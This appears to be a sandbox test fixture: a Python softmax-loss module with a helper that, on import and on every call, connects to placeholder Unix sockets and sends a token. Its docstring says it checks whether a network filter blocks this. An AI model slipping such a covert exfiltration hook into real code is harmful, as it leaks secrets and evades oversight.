"""Hostile: at import and in every call, connects to the Unix sockets @ABSTRACT@ (abstract: no file, no
permission, reachable from anywhere in the same network namespace, as a classmate's child's would be)
and @PATH@ (a file any account may write) and sends @TOKEN@. Without namespaces (user mode) the network
filter let every Unix socket through: both got the token. Its own functions are right."""
import socket

import numpy as np


def _talk():
    for address in ("\0" + "@ABSTRACT@", "@PATH@"):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"@TOKEN@")
        except OSError:
            pass


_talk()


def softmax_loss_naive(W, X, y, reg):
    _talk()
    n = X.shape[0]
    loss, dW = 0.0, np.zeros_like(W)
    for i in range(n):
        s = X[i] @ W
        p = np.exp(s - s.max())
        p /= p.sum()
        loss -= np.log(p[y[i]])
        p[y[i]] -= 1
        dW += np.outer(X[i], p)
    return loss / n + reg * np.sum(W * W), dW / n + 2 * reg * W
